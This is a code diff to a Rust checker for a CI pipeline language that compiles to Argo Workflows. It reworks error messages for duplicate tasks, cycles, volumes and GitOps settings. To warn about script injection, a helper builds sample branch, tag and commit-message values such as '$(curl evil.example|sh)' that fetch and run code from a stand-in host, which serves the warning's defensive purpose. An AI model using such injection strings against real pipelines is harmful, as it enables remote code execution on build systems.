@@ -194,22 +194,24 @@ impl Checker<'_> {
                     Diagnostic::new(Code::E0210, block.keyword, "the pipeline has no `source`")
                         .label("which repository does it build?")
                         .help(format!(
-                            "add `source = github(\"{}\")` with the repository's owner",
-                            decl.name.name
+                            "add `source = github(\"<owner>/{name}\")`, or `gitlab(\"<group>/{name}\")` for a GitLab project",
+                            name = decl.name.name
                         )),
                 );
                 None
             }
         };
-        let timeout = fields
-            .get("timeout")
-            .map_or(Some(Duration::from_millis(DEFAULT_TIMEOUT_SECONDS * 1000)), |field| {
-                self.whole_seconds(&field.value, "`timeout`")
-            });
-        let volume = fields.get("volume").map_or(Some(DEFAULT_VOLUME.to_string()), |field| {
-            self.memory(&field.value, "`volume`")
-                .map(|memory| memory.to_quantity().to_string())
-        });
+        let timeout =
+            fields
+                .get("timeout")
+                .map_or(Some(Duration::from_millis(DEFAULT_TIMEOUT_SECONDS * 1000)), |field| {
+                    // `argo stop` and `argo terminate` work by setting the deadline to 0.
+                    self.positive_seconds(&field.value, "Argo would stop every run as soon as it starts")
+                });
+        let volume = fields
+            .get("volume")
+            .map_or(Some(DEFAULT_VOLUME.to_string()), |field| self.volume(&field.value));
+        self.gitops_for_deploys(block, platform);
         let triggers = self.triggers(block, decl, platform);
         let image_name = image.map(image_without_version).unwrap_or_default();
         let graph = self.tasks(block, decl, module, platform, &image_name, replicas);
@@ -245,6 +247,40 @@ impl Checker<'_> {
             }),
             environments,
         ))
+    }
+
+    /// The working volume's size, more than zero.
+    fn volume(&mut self, expr: &Expr) -> Option<String> {
+        let memory = self.memory(expr, "`volume`")?;
+        if memory.bytes() == 0 {
+            self.report(
+                Diagnostic::new(Code::E0305, expr.span, "`volume` is zero")
+                    .label("the steps share this volume: the sources are cloned into it")
+                    .help(format!(
+                        "write e.g. `volume = 5Gi`, or leave `volume` out for {DEFAULT_VOLUME}"
+                    )),
+            );
+            return None;
+        }
+        Some(memory.to_quantity().to_string())
+    }
+
+    /// Deploys push to the platform's GitOps repository: said once, at the first deploy, when it has
+    /// none.
+    fn gitops_for_deploys(&mut self, block: &ast::Pipeline, platform: Option<&Platform>) {
+        let first_deploy = block
+            .tasks
+            .iter()
+            .find(|task| matches!(task.kind, ast::TaskKind::Deploy { .. }));
+        if let Some(deploy) = first_deploy
+            && platform.is_some_and(|p| p.gitops.is_none())
+        {
+            self.report(
+                Diagnostic::new(Code::E0210, deploy.name.span, "the platform has no `gitops` repository")
+                    .label("a deploy pushes the new digest to the GitOps repository")
+                    .help("add `gitops = \"https://git.example.com/shop/deploy.git\"` to the platform"),
+            );
+        }
     }
 
     /// `github("owner/repository")` or `gitlab("group/project", url: "https://gitlab.example.com")`.
@@ -480,7 +516,7 @@ impl Checker<'_> {
                     }
                     Some(TaskKind::Step { step, args })
                 }),
-                ast::TaskKind::Deploy { digest, environment } => self.deploy(task, digest, environment, &mut scope),
+                ast::TaskKind::Deploy { digest, environment } => self.deploy(digest, environment, &mut scope),
                 ast::TaskKind::Approve => Some(TaskKind::Approve),
                 ast::TaskKind::Check { environment, probe } => self.pipeline_check(environment, probe, &mut scope),
             };
@@ -542,41 +578,31 @@ impl Checker<'_> {
             by_name: BTreeMap::new(),
             step_of: Vec::new(),
         };
-        let mut by_argo_name: BTreeMap<String, Span> = BTreeMap::new();
+        let mut by_argo_name: BTreeMap<String, &ast::Task> = BTreeMap::new();
         let mut ok = true;
         for task in &block.tasks {
             let name = &task.name;
             let argo_name = name.name.replace('_', "-");
             if argo_name == CLONE_TASK {
                 ok = false;
-                self.report(
-                    Diagnostic::new(
-                        Code::E0202,
-                        name.span,
-                        format!("`{}` is the name of the task that fetches the sources", name.name),
-                    )
-                    .label("taken by shipc")
-                    .help("choose another name"),
-                );
+                let mut diagnostic = Diagnostic::new(
+                    Code::E0202,
+                    name.span,
+                    format!("`{}` is the name of the task that fetches the sources", name.name),
+                )
+                .label("taken by shipc")
+                .help("choose another name");
+                if name.name != CLONE_TASK {
+                    diagnostic = diagnostic.note(format!(
+                        "Argo writes `_` as `-`: this task would be `{CLONE_TASK}`, which every pipeline starts with"
+                    ));
+                }
+                self.report(diagnostic);
             } else if let Some(first) = by_argo_name.get(&argo_name) {
                 ok = false;
-                let message = if matches!(task.kind, ast::TaskKind::Deploy { .. }) {
-                    format!(
-                        "the pipeline deploys to `{}` twice",
-                        name.name.trim_start_matches("deploy_")
-                    )
-                } else {
-                    format!("the pipeline has two tasks named `{}`", name.name)
-                };
-                self.report(
-                    Diagnostic::new(Code::E0202, name.span, message)
-                        .label("declared again here")
-                        .secondary(*first, "first declared here")
-                        .note("Argo names tasks with `-` for `_`, so `a_b` and `a-b` are the same task")
-                        .help("rename one of them"),
-                );
+                self.report(duplicate_task(first, task, &argo_name));
             } else {
-                by_argo_name.insert(argo_name.clone(), name.span);
+                by_argo_name.insert(argo_name.clone(), task);
             }
             // A check task's template is `check-<task>`: the longest derived name.
             let longest = if matches!(task.kind, ast::TaskKind::Check { .. }) {
@@ -721,7 +747,7 @@ impl Checker<'_> {
                     .help(format!(
                         "pass it through the environment: in step `{step_name}`, set `env = {{ {variable}: {param} }}` and write \"${variable}\", in double quotes, in the script"
                     ))
-                    .note("a branch named `x;curl -s evil.example|sh` would run as part of the script"),
+                    .note(injection_example(field)),
                 );
                 continue;
             }
@@ -772,7 +798,11 @@ impl Checker<'_> {
                         ty.describe()
                     ),
                 )
-                .label(format!("expected {}", ty.describe())),
+                .label(format!("expected {}", ty.describe()))
+                .help(format!(
+                    "write {} here, or make the parameter a `string`, which can take a value known only when the pipeline runs",
+                    ty.describe()
+                )),
             );
             return None;
         }
@@ -813,20 +843,27 @@ impl Checker<'_> {
                     None
                 }
             },
-            ("platform", Some(field), 2) if scope.platform.is_some() => {
-                match scope.platform.and_then(|platform| platform.field(&field.name)) {
-                    Some(value) => Some(ValuePiece::Text(value.to_string())),
-                    None => {
-                        self.report(unknown_choice(
-                            Code::E0211,
-                            field.span,
-                            &field.name,
-                            "platform value",
-                            Platform::FIELDS,
-                        ));
-                        None
-                    }
+            ("platform", Some(field), 2) if let Some(platform) = scope.platform => {
+                if let Some(value) = platform.field(&field.name) {
+                    return Some(ValuePiece::Text(value.to_string()));
                 }
+                if Platform::FIELDS.contains(&field.name.as_str()) {
+                    self.report(
+                        Diagnostic::new(Code::E0210, span, format!("the platform sets no `{}`", field.name))
+                            .label("used here")
+                            .secondary(platform.keyword, "this platform")
+                            .help(format!("add `{} = \"...\"` to the platform", field.name)),
+                    );
+                } else {
+                    self.report(unknown_choice(
+                        Code::E0211,
+                        field.span,
+                        &field.name,
+                        "platform value",
+                        Platform::FIELDS,
+                    ));
+                }
+                None
             }
             (name, _, _) => {
                 let Some(target) = scope.tasks.by_name.get(name).copied() else {
@@ -927,13 +964,7 @@ impl Checker<'_> {
     }
 
     /// `deploy build.digest to staging`.
-    fn deploy(
-        &mut self,
-        task: &ast::Task,
-        digest: &Expr,
-        environment: &Ident,
-        scope: &mut ValueScope<'_, '_>,
-    ) -> Option<TaskKind> {
+    fn deploy(&mut self, digest: &Expr, environment: &Ident, scope: &mut ValueScope<'_, '_>) -> Option<TaskKind> {
         let environment = self
             .environment_use(environment, scope.module)
             .and_then(|target| self.with_replicas(target, environment, scope.module, scope.replicas));
@@ -952,14 +983,6 @@ impl Checker<'_> {
                 None
             }
         });
-        if scope.platform.is_some_and(|p| p.gitops.is_none()) {
-            self.report(
-                Diagnostic::new(Code::E0210, task.name.span, "the platform has no `gitops` repository")
-                    .label("a deploy pushes the new digest to the GitOps repository")
-                    .help("add `gitops = \"https://git.example.com/shop/deploy.git\"` to the platform"),
-            );
-            return None;
-        }
         Some(TaskKind::Deploy {
             environment: environment?,
             digest: digest?,
@@ -997,7 +1020,7 @@ impl Checker<'_> {
                     )
                     .label("nothing new to check there")
                     .help(format!(
-                        "add `deploy build.digest to {}` before the check",
+                        "deploy to it first, e.g. `deploy build.digest to {}`: the check then waits for that deploy",
                         environment.name
                     )),
                 );
@@ -1155,6 +1178,7 @@ impl Checker<'_> {
             Done,
         }
         let mut marks = vec![Mark::New; edges_of.len()];
+        let mut reported: BTreeSet<Vec<usize>> = BTreeSet::new();
         let mut ok = true;
         for start in 0..edges_of.len() {
             if marks.get(start) != Some(&Mark::New) {
@@ -1184,35 +1208,63 @@ impl Checker<'_> {
                     Some(Mark::Active) => {
                         ok = false;
                         let from = stack.iter().position(|(t, _)| *t == edge.target).unwrap_or(0);
-                        let names: Vec<String> = stack
+                        // Each task on the stack from there waits for the next one through the edge
+                        // it followed last; the top's is the edge that closes the cycle.
+                        let cycle: Vec<(usize, Edge)> = stack
                             .get(from..)
                             .unwrap_or(&[])
                             .iter()
-                            .map(|(t, _)| *t)
-                            .chain(std::iter::once(edge.target))
-                            .filter_map(|t| tasks.decls.get(t).map(|task| format!("`{}`", task.name.name)))
+                            .filter_map(|&(t, next)| {
+                                let followed = edges_of.get(t)?.get(next.checked_sub(1)?)?;
+                                Some((t, *followed))
+                            })
                             .collect();
-                        let waits = names.join(", which waits for ");
-                        let closing = tasks.decls.get(task).map_or(String::new(), |t| t.name.name.clone());
-                        self.report(
-                            Diagnostic::new(
-                                Code::E0401,
-                                edge.span,
-                                "the tasks of this pipeline wait for each other in a cycle",
-                            )
-                            .label(format!(
-                                "`{closing}` waits for `{}` here, which closes the cycle",
-                                tasks.decls.get(edge.target).map_or("", |t| t.name.name.as_str())
-                            ))
-                            .note(format!("{waits}: none of them can ever start"))
-                            .help("remove one of these `after` edges or output references"),
-                        );
+                        // `after build` next to a read of `build.digest` is two edges between the same
+                        // tasks: one cycle, reported once.
+                        if reported.insert(cycle.iter().map(|(t, _)| *t).collect()) {
+                            self.report_cycle(tasks, &cycle);
+                        }
                     }
                     _ => {}
                 }
             }
         }
         ok
+    }
+
+    /// One cycle, as `(task, the edge by which it waits for the next)` in order. The edge that closed
+    /// it in the search is the primary label; any other would do as well.
+    fn report_cycle(&mut self, tasks: &Tasks<'_>, cycle: &[(usize, Edge)]) {
+        let name = |task: usize| tasks.decls.get(task).map_or("", |t| t.name.name.as_str());
+        let Some(((closing, closing_edge), rest)) = cycle.split_last() else {
+            return;
+        };
+        let mut order: Vec<String> = cycle.iter().map(|(task, _)| format!("`{}`", name(*task))).collect();
+        order.push(format!("`{}`", name(closing_edge.target)));
+        let mut diagnostic = Diagnostic::new(
+            Code::E0401,
+            closing_edge.span,
+            "the tasks of this pipeline wait for each other in a cycle",
+        )
+        .label(format!(
+            "`{}` waits for `{}`",
+            name(*closing),
+            name(closing_edge.target)
+        ));
+        for (task, edge) in rest {
+            diagnostic = diagnostic.secondary(
+                edge.span,
+                format!("`{}` waits for `{}`", name(*task), name(edge.target)),
+            );
+        }
+        self.report(
+            diagnostic
+                .note(format!(
+                    "{}: none of them can ever start",
+                    order.join(", which waits for ")
+                ))
+                .help("remove one of these `after` edges or output references"),
+        );
     }
 
     /// Argo takes at most [`MAX_TEMPLATES`] templates: count what lowering will emit.
@@ -1238,19 +1290,97 @@ impl Checker<'_> {
         };
         let total = 2 + parts + steps.len() + environments.len() + checks + usize::from(approvals);
         if total > MAX_TEMPLATES {
+            let plural = |n: usize, one: &str| format!("{n} {one}{}", if n == 1 { "" } else { "s" });
+            let mut uses = Vec::new();
+            if !steps.is_empty() {
+                uses.push(plural(steps.len(), "step definition"));
+            }
+            if !environments.is_empty() {
+                uses.push(plural(environments.len(), "environment") + " deployed to");
+            }
+            if checks > 0 {
+                uses.push(plural(checks, "check"));
+            }
+            if approvals {
+                uses.push("the approvals, which share one".to_string());
+            }
+            if parts > 0 {
+                uses.push(format!("{} holding the {n_tasks} tasks", plural(parts, "nested DAG")));
+            }
+            uses.push("the entry DAG".to_string());
+            uses.push(format!("the `{CLONE_TASK}` task"));
+            let last = uses.pop().unwrap_or_default();
             self.report(
                 Diagnostic::new(Code::E0405, block.keyword, format!("this pipeline needs {total} Argo templates"))
                     .label(format!("a WorkflowTemplate holds at most {MAX_TEMPLATES}"))
-                    .note(format!(
-                        "one per step definition used ({}), per environment deployed to ({}), per check ({checks}){}, plus the entry DAG and the clone{}",
-                        steps.len(),
-                        environments.len(),
-                        if approvals { ", one for approvals" } else { "" },
-                        if parts > 0 { format!(", and {parts} nested DAGs for {n_tasks} tasks") } else { String::new() }
-                    ))
-                    .help("reuse step definitions: every use of one definition shares its template; or split the pipeline across services"),
+                    .note(format!("one template each: {} and {last}", uses.join(", ")))
+                    .help("use fewer step definitions: every use of one definition shares its template; or split the work across services"),
             );
         }
+    }
+}
+
+/// What a pusher could choose for `field` to run their own commands in a script that pastes it.
+fn injection_example(field: EventField) -> String {
+    // `$(...)` runs inside double quotes too. Git allows `$`, parentheses, braces and `|` in ref names,
+    // though not spaces: `${IFS}` stands in for one.
+    let (what, example) = match field {
+        EventField::Branch => ("a branch named", "x$(curl${IFS}evil.example|sh)"),
+        EventField::Tag => ("a tag named", "v1$(curl${IFS}evil.example|sh)"),
+        EventField::Message | EventField::Revision => (
+            "a commit message or pull request title such as",
+            "$(curl evil.example|sh)",
+        ),
+    };
+    format!("{what} `{example}` would run as part of the script")
+}
+
+/// Two tasks that Argo would give the same name.
+fn duplicate_task(first: &ast::Task, again: &ast::Task, argo_name: &str) -> Diagnostic {
+    let deploy_to = |task: &ast::Task| match &task.kind {
+        ast::TaskKind::Deploy { environment, .. } => Some(environment.name.clone()),
+        _ => None,
+    };
+    let (first_name, again_name) = (&first.name.name, &again.name.name);
+    let rename_one = "rename one of them".to_string();
+    let (message, note, help) = match (deploy_to(first), deploy_to(again)) {
+        (Some(environment), Some(_)) if first_name == again_name => (
+            format!("the pipeline deploys to `{environment}` twice"),
+            None,
+            "remove one of the deploys".to_string(),
+        ),
+        (Some(environment), None) | (None, Some(environment)) => {
+            let step = if deploy_to(first).is_some() {
+                again_name
+            } else {
+                first_name
+            };
+            (
+                format!("task `{step}` has the name of the deploy to `{environment}`"),
+                Some(format!(
+                    "a deploy to `{environment}` is the task `deploy_{environment}`: that is how `after` names it"
+                )),
+                format!("rename task `{step}`"),
+            )
+        }
+        _ if first_name == again_name => (
+            format!("the pipeline has two tasks named `{again_name}`"),
+            None,
+            rename_one,
+        ),
+        _ => (
+            format!("tasks `{first_name}` and `{again_name}` have the same name in Argo"),
+            Some(format!("Argo writes `_` as `-`, so both are the task `{argo_name}`")),
+            rename_one,
+        ),
+    };
+    let diagnostic = Diagnostic::new(Code::E0202, again.name.span, message)
+        .label("declared again here")
+        .secondary(first.name.span, "first declared here")
+        .help(help);
+    match note {
+        Some(note) => diagnostic.note(note),
+        None => diagnostic,
     }
 }
 
